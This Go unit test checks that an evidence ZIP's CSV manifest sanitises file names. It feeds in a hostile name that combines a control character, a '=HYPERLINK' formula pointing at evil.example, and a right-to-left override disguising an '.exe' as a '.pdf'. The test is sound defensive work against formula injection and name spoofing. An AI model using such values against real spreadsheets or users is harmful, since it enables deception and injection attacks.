// control or bidirectional override characters, no formula.
func TestManifestNamesAreSanitised(t *testing.T) {
	d, store := fixture(t)
	for i := range d.Submissions {
		if d.Submissions[i].Indicator == "1.1.1" {
			d.Submissions[i].Evidence[0].Name = "\x01=HYPERLINK(\"http://evil.example\")\u202efdp.exe"
		}
	}
	var buf bytes.Buffer
	if err := WriteEvidenceZIP(&buf, d, store.open); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if zf.Name != ManifestName {
			continue
		}
		rc, _ := zf.Open()
		data, _ := io.ReadAll(rc)
		rc.Close()
		recs, err := csv.NewReader(bytes.NewReader(data[3:])).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range recs[1:] {
			for _, cell := range []string{r[7], r[8]} {
				if strings.ContainsAny(cell, "\x01\u202e") || (cell != "" && strings.ContainsAny(cell[:1], "=+-@")) {
					t.Errorf("unsafe manifest cell %q", cell)
				}
			}
		}
	}
}
